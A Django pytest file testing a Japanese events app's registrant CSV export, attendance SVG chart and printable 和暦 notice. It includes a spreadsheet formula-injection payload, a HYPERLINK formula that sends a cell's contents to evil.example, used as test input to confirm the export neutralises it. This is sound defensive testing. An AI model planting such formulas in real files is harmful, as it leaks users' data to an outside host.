"""What organizers and members take away: the registrants as CSV for Excel (BOM, CRLF, no
formula runs), the attendance chart of a series (an SVG the server draws, with its table), both
for organizers only, and the printable notice (和暦 in Japanese, English dates in English,
always Japan time)."""

import csv
import io
import re
from datetime import datetime, timedelta
from pathlib import Path
from urllib.parse import quote
from zoneinfo import ZoneInfo

import pytest
from django.conf import settings as django_settings
from django.db import connection
from django.template import Context, Template
from django.test import Client
from django.test.utils import CaptureQueriesContext
from django.utils import timezone

from events import exports, services
from events.models import Occurrence, Question, Registration
from groups.models import Group, Membership
from tests.events.conftest import first_occurrence, make_series
from tests.factories import GroupFactory, MemberFactory

pytestmark = pytest.mark.django_db
JST = ZoneInfo("Asia/Tokyo")


def _client(member, language: str = "ja") -> Client:
    client = Client()
    client.force_login(member)
    client.cookies["django_language"] = language
    return client


def _saturday_at(hour: int) -> datetime:
    """A Saturday about a month ahead, at ``hour`` in Japan time."""
    day = timezone.localdate() + timedelta(days=30)
    day += timedelta(days=(5 - day.weekday()) % 7)
    return datetime(day.year, day.month, day.day, hour, tzinfo=JST)


def _occurrence_at(organizer, group, start, **more):
    series = services.series_create(
        author=organizer, group=group, title="滞納整理 勉強会", first_start=start,
        duration_minutes=90, description="**差押え**の実務を学びます。", **more,
    )  # fmt: skip
    return first_occurrence(series)


def _when(page: str) -> str:
    return re.search(r"<dd data-when>(.*?)</dd>", page, re.S).group(1)


# --- the registrants as CSV ---------------------------------------------------------------

HYPERLINK = '=HYPERLINK("https://evil.example/steal?d="&A1,"クリック")'
HEADER = ["申込順", "名前", "所属", "部署", "状態", "申込日時", "受付", "出席"]


@pytest.fixture
def asked(organizer, vaccine_group):
    """An occurrence with two questions and seats for two."""
    questions = [
        {"label": "所属の人口規模", "kind": "text", "choices": "", "required": False},
        {"label": "=質問", "kind": "text", "choices": "", "required": False},
    ]
    series = make_series(organizer, vaccine_group, capacity=2, questions=questions)
    return first_occurrence(series)


def _answer(occurrence, member, *answers) -> Registration:
    ids = [str(pk) for pk in occurrence.series.questions.values_list("pk", flat=True)]
    given = dict(zip(ids, answers, strict=False))
    return services.registration_create(member=member, occurrence=occurrence, answers=given)[0]


def _csv(client, occurrence) -> tuple[bytes, list[list[str]]]:
    response = client.get(f"/events/{occurrence.pk}/registrants.csv")
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    body = response.content
    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))
    return body, rows


def test_the_csv_opens_in_excel_bom_crlf_and_japan_time(organizer, asked):
    yamada = MemberFactory(display_name="山田 花子", department="保健福祉局", section="",
                           team="")  # fmt: skip
    registration = _answer(asked, yamada, "約15万人")
    services.registration_check_in(actor=organizer, registration=registration)
    registration.refresh_from_db()
    body, rows = _csv(_client(organizer), asked)
    assert body.startswith(b"\xef\xbb\xbf" + "申込順".encode())
    assert body.count(b"\r\n") == 2 and b"\n" not in body.replace(b"\r\n", b"")
    assert rows[0] == [*HEADER, "所属の人口規模", "'=質問"]
    registered = timezone.localtime(registration.registered_at).strftime("%Y-%m-%d %H:%M")
    checked_in = timezone.localtime(registration.checked_in_at).strftime("%Y-%m-%d %H:%M")
    assert rows[1] == ["1", "山田 花子", "神戸市", "保健福祉局", "参加予定", registered,
                       checked_in, "出席", "約15万人", ""]  # fmt: skip
    assert yamada.email not in body.decode("utf-8-sig")


def test_a_formula_in_a_cell_comes_out_as_text(organizer, asked):
    sly = MemberFactory(display_name="@SUM(1+1)", department="-2+3", section="", team="")
    _answer(asked, sly, "+81-78-000-0000", HYPERLINK)
    _body, rows = _csv(_client(organizer), asked)
    assert rows[1][1] == "'@SUM(1+1)" and rows[1][3] == "'-2+3"
    assert rows[1][-2:] == ["'+81-78-000-0000", "'" + HYPERLINK]


def test_every_kind_of_cell_is_neutralised_and_control_characters_dropped():
    for start in ["=", "+", "-", "@", "\t", "\r"]:
        assert exports.cell(start + "1+1") == "'" + start + "1+1"
    assert exports.cell("a\x00b\x1b\x7f\ud800c") == "abc"
    assert exports.cell("\x00=1+1") == "'=1+1"  # a NUL cannot hide the formula
    assert exports.cell("改行\nあり") == "改行\nあり"
    assert exports.cell(None) == "" and exports.cell(12) == "12"


def test_nul_in_an_answer_never_breaks_the_file(organizer):
    """PostgreSQL refuses NUL in text and the site drops it from forms; a row that holds one
    anyway (an older database, an import) still comes out."""
    question = Question(pk=7, label="質問")
    registration = Registration(
        member=organizer, position=1, status=Registration.Status.CONFIRMED,
        answers={"7": "=a\x00b"}, registered_at=timezone.now(),
    )  # fmt: skip
    body = exports.registrants_csv([registration], [question], organizer)
    assert b"\x00" not in body and body.decode("utf-8-sig").endswith(",'=ab\r\n")


def test_odd_answers_typed_in_never_give_a_server_error(organizer, asked, member):
    question = asked.series.questions.first()

    def send(value: str):
        encoded = quote(value.encode("utf-8", "surrogatepass"))
        return _client(member).post(f"/events/{asked.pk}/register", f"{question.pk}={encoded}",
                                    content_type="application/x-www-form-urlencoded")  # fmt: skip

    assert send("a\x00b").status_code == 302  # NUL: dropped before any view
    assert asked.registrations.get().answers[str(question.pk)] == "ab"
    asked.registrations.all().delete()
    assert send("\ud800=1+1").status_code == 302  # not UTF-8: read as U+FFFD
    _body, rows = _csv(_client(organizer), asked)
    assert rows[1][-2].strip("\ufffd") == "=1+1"


def test_a_hidden_department_stays_hidden(organizer, asked):
    shy = MemberFactory(department="危機管理室", hide_department=True)
    _answer(asked, shy)
    _body, rows = _csv(_client(organizer), asked)
    assert rows[1][3] == ""


def test_attendance_and_status_read_in_words(organizer, asked):
    present, absent, waiting = MemberFactory(), MemberFactory(), MemberFactory()
    for who in (present, absent, waiting):
        _answer(asked, who)
    ids = list(asked.registrations.order_by("position").values_list("pk", flat=True))
    services.attendance_mark(actor=organizer, occurrence=asked, attended_ids=[ids[0]])
    _body, rows = _csv(_client(organizer), asked)
    assert [(row[4], row[7]) for row in rows[1:]] == [
        ("参加予定", "出席"), ("参加予定", "欠席"), ("補欠", ""),
    ]  # fmt: skip


@pytest.fixture
def other_group_moderator(organizer):
    other = GroupFactory(owner=organizer, slug="other", name="別のグループ")
    moderator = MemberFactory()
    Membership.objects.create(group=other, member=moderator, role=Membership.Role.MODERATOR)
    return moderator


def test_the_csv_is_the_same_404_for_anyone_but_the_organizers(
    asked, member, other_group_moderator, organizer, vaccine_group
):
    _answer(asked, member)
    for outsider in (member, other_group_moderator):
        assert _client(outsider).get(f"/events/{asked.pk}/registrants.csv").status_code == 404
    assert _client(member).get("/events/99999999/registrants.csv").status_code == 404
    moderator = MemberFactory()
    Membership.objects.create(group=vaccine_group, member=moderator,
                              role=Membership.Role.MODERATOR)  # fmt: skip
    assert _client(moderator).get(f"/events/{asked.pk}/registrants.csv").status_code == 200
    anonymous = Client().get(f"/events/{asked.pk}/registrants.csv")
    assert anonymous.status_code == 302


def test_the_csv_asks_the_same_queries_however_many_registered(
    organizer, asked, django_assert_num_queries
):
    client = _client(organizer)
    _answer(asked, MemberFactory(), "a")
    # session, member, occurrence (with whether they organize it), membership, registration,
    # questions, registrants
    with django_assert_num_queries(7):
        assert len(_csv(client, asked)[1]) == 2
    services.occurrence_capacity_set(actor=organizer, occurrence=asked, capacity=20)
    for number in range(12):
        _answer(asked, MemberFactory(organization=None) if number % 3 else MemberFactory(), "b")
    with django_assert_num_queries(7):
        assert len(_csv(client, asked)[1]) == 14


def test_the_manage_page_links_the_csv_and_the_chart(organizer, asked):
    page = _client(organizer).get(f"/events/{asked.pk}/manage/").content.decode()
    assert f'href="/events/{asked.pk}/registrants.csv"' in page
    assert f'href="/events/series/{asked.series_id}/attendance/"' in page


# --- the attendance chart -------------------------------------------------------------------


def _weekly(organizer, group, weeks: int, *, capacity=5):
    start = _saturday_at(10)
    return services.series_create(
        author=organizer, group=group, title="毎週の勉強会", first_start=start,
        rule=f"FREQ=WEEKLY;COUNT={weeks}", capacity=capacity,
    )  # fmt: skip


def _held(organizer, occurrence, registrants: int, attended: int, weeks_ago: int):
    """``registrants`` confirmed, then the session moved ``weeks_ago`` into the past with
    ``attended`` of them marked present."""
    for _ in range(registrants):
        services.registration_create(member=MemberFactory(), occurrence=occurrence)
    start = timezone.now().replace(hour=1, minute=0) - timedelta(weeks=weeks_ago)
    Occurrence.objects.filter(pk=occurrence.pk).update(
        starts_at=start, ends_at=start + timedelta(hours=1)
    )
    ids = occurrence.registrations.order_by("position").values_list("pk", flat=True)
    services.attendance_mark(actor=organizer, occurrence=occurrence,
                             attended_ids=list(ids[:attended]))  # fmt: skip


def test_the_chart_draws_confirmed_and_attended_bars_with_a_table(organizer, vaccine_group):
    series = _weekly(organizer, vaccine_group, 3)
    first, second, third = series.occurrences.order_by("starts_at")
    _held(organizer, first, 4, 3, weeks_ago=2)
    _held(organizer, second, 2, 2, weeks_ago=1)
    services.registration_create(member=MemberFactory(), occurrence=third)
    page = _client(organizer).get(f"/events/series/{series.pk}/attendance/").content.decode()
    svg = page[page.index("<svg") : page.index("</svg>")]
    assert 'role="img"' in svg and "<title id=" in svg and "<desc id=" in svg
    assert re.findall(r'data-confirmed="(\d+)"', svg) == ["4", "2", "1"]
    assert re.findall(r'data-attended="(\d+)"', svg) == ["3", "2"]  # the third is ahead
    first.refresh_from_db()
    day = timezone.localtime(first.starts_at)
    assert f">{day.month}/{day.day}</text>" in svg
    assert "<script" not in page[page.index("<main") : page.index("</main>")]
    table = page[page.index("<table") : page.index("</table>")]
    assert "75%" in table and "100%" in table and "開催予定" in table


def test_the_chart_leaves_out_cancelled_occurrences_and_the_table_says_so(organizer, vaccine_group):
    series = _weekly(organizer, vaccine_group, 2)
    first, second = series.occurrences.order_by("starts_at")
    services.occurrence_cancel(actor=organizer, occurrence=second)
    page = _client(organizer).get(f"/events/series/{series.pk}/attendance/").content.decode()
    assert len(re.findall(r"data-confirmed=", page)) == 1
    assert "中止" in page[page.index("<table") :]


def test_the_chart_geometry_in_japan_time():
    class Row:
        def __init__(self, starts_at, confirmed, attended, status="scheduled"):
            self.starts_at, self.confirmed, self.attended = starts_at, confirmed, attended
            self.is_cancelled = status == "cancelled"

    utc = ZoneInfo("UTC")
    now = datetime(2026, 12, 10, tzinfo=utc)
    rows = [Row(datetime(2026, 12, 4, 23, 30, tzinfo=utc), 23, 20),  # 12/5 in Japan
            Row(datetime(2026, 12, 5, 1, 0, tzinfo=utc), 9, 9, "cancelled"),
            Row(datetime(2026, 12, 19, 1, 0, tzinfo=utc), 10, 0)]  # fmt: skip
    chart = exports.attendance_chart(rows, now=now)
    assert [column.label for column in chart.columns] == ["12/5", "12/19"]
    assert [tick.value for tick in chart.ticks] == [0, 5, 10, 15, 20, 25]
    first, ahead = chart.columns
    assert first.confirmed.height == round(exports.PLOT * 23 / 25)
    assert first.confirmed.y + first.confirmed.height == chart.baseline
    assert first.attended.value == 20 and ahead.attended is None
    assert exports.attendance_chart([], now=now).columns == []
    assert [exports._step(n) for n in (1, 5, 7, 23, 100, 101, 4000)] == [1, 1, 2, 5, 20, 50, 1000]


def test_the_chart_is_the_same_404_for_anyone_but_the_organizers(
    organizer, vaccine_group, member, other_group_moderator
):
    series = _weekly(organizer, vaccine_group, 2)
    for outsider in (member, other_group_moderator):
        response = _client(outsider).get(f"/events/series/{series.pk}/attendance/")
        assert response.status_code == 404
    assert _client(member).get("/events/series/99999999999/attendance/").status_code == 404
    huge = "/events/series/99999999999999999999999/attendance/"
    assert _client(member).get(huge).status_code == 404


def test_the_chart_asks_the_same_queries_however_many_occurrences(
    organizer, vaccine_group, django_assert_num_queries
):
    client = _client(organizer)
    small = _weekly(organizer, vaccine_group, 1)
    _held(organizer, small.occurrences.get(), 2, 1, weeks_ago=1)
    client.get(f"/events/series/{small.pk}/attendance/")
    with CaptureQueriesContext(connection) as few:
        client.get(f"/events/series/{small.pk}/attendance/")
    chart_queries = [q["sql"] for q in few if '"events_' in q["sql"]]
    assert len(chart_queries) == 3  # the series, its organizers, the occurrences with counts
    large = _weekly(organizer, vaccine_group, 8)
    for weeks_ago, occurrence in enumerate(large.occurrences.order_by("starts_at")[:5], 1):
        _held(organizer, occurrence, 3, 2, weeks_ago=weeks_ago)
    with django_assert_num_queries(len(few)):
        page = client.get(f"/events/series/{large.pk}/attendance/").content.decode()
    assert len(re.findall(r"data-confirmed=", page)) == 8


# --- the notice -----------------------------------------------------------------------------


def test_the_notice_gives_the_date_in_wareki_with_the_weekday_in_japan_time(
    organizer, vaccine_group, member
):
    start = _saturday_at(8)  # Friday 23:00 UTC: the JST day must win
    occurrence = _occurrence_at(organizer, vaccine_group, start)
    page = _client(member).get(f"/events/{occurrence.pk}/notice/").content.decode()
    era_year = start.year - 2018
    expected = f"令和{era_year}年{start.month}月{start.day}日(土) 08:00〜09:30"
    assert re.sub(r"<[^>]+>", "", _when(page)) == expected
    assert "滞納整理 勉強会" in page and "ワクチン接種体制" in page
    assert "<strong>差押え</strong>" in page
    assert f"/events/{occurrence.pk}/" in page


def test_the_english_notice_has_english_dates_and_no_wareki(organizer, vaccine_group, member):
    start = _saturday_at(8)
    occurrence = _occurrence_at(organizer, vaccine_group, start)
    page = _client(member, "en").get(f"/events/{occurrence.pk}/notice/").content.decode()
    when = re.sub(r"<[^>]+>", "", _when(page))
    assert when == f"Sat, {start:%b} {start.day}, {start.year}, 08:00–09:30"
    assert "令和" not in page and "(土)" not in page


def test_a_notice_over_midnight_gives_both_days(organizer, vaccine_group, member):
    start = _saturday_at(23)
    occurrence = _occurrence_at(organizer, vaccine_group, start)
    page = _client(member).get(f"/events/{occurrence.pk}/notice/").content.decode()
    sunday = start + timedelta(days=1)
    assert re.sub(r"<[^>]+>", "", _when(page)).endswith(
        f"〜令和{sunday.year - 2018}年{sunday.month}月{sunday.day}日(日) 00:30"
    )


def test_the_notice_prints_without_the_site_around_it(organizer, vaccine_group, member):
    occurrence = _occurrence_at(organizer, vaccine_group, _saturday_at(10))
    page = _client(member).get(f"/events/{occurrence.pk}/notice/").content.decode()
    assert 'href="/static/css/events.css"' in page
    css = (Path(django_settings.BASE_DIR) / "static/css/events.css").read_text()
    print_rules = css[css.index("@media print") :]
    assert ".site-header" in print_rules and ".notice-sheet__back" in print_rules


def test_a_cancelled_occurrence_says_so_on_its_notice(organizer, vaccine_group, member):
    occurrence = _occurrence_at(organizer, vaccine_group, _saturday_at(10))
    services.occurrence_cancel(actor=organizer, occurrence=occurrence)
    page = _client(member).get(f"/events/{occurrence.pk}/notice/").content.decode()
    assert "この回は中止になりました。" in page


def test_the_notice_never_shows_the_meeting_url(organizer, vaccine_group):
    url = "https://meet.example.jp/j/secret"
    occurrence = _occurrence_at(organizer, vaccine_group, _saturday_at(10), meeting_url=url)
    assert url not in _client(organizer).get(f"/events/{occurrence.pk}/notice/").content.decode()


def test_the_notice_of_a_closed_group_is_404_for_others(organizer, member):
    closed = GroupFactory(owner=organizer, kind=Group.Kind.CLOSED, slug="naisho")
    occurrence = _occurrence_at(organizer, closed, _saturday_at(10))
    assert _client(member).get(f"/events/{occurrence.pk}/notice/").status_code == 404
    assert _client(organizer).get(f"/events/{occurrence.pk}/notice/").status_code == 200


def test_the_wareki_filter_takes_a_datetime_in_japan_time():
    friday_night_utc = datetime(2026, 12, 4, 23, 30, tzinfo=ZoneInfo("UTC"))
    rendered = Template("{% load cityhall %}{{ when|wareki }}").render(
        Context({"when": friday_night_utc})
    )
    assert rendered == "令和8年12月5日"


def test_the_occurrence_page_links_its_file_and_its_notice(organizer, vaccine_group, member):
    occurrence = _occurrence_at(organizer, vaccine_group, _saturday_at(10))
    page = _client(member).get(f"/events/{occurrence.pk}/").content.decode()
    assert f'href="/events/{occurrence.pk}/event.ics"' in page
    assert f'href="/events/{occurrence.pk}/notice/"' in page
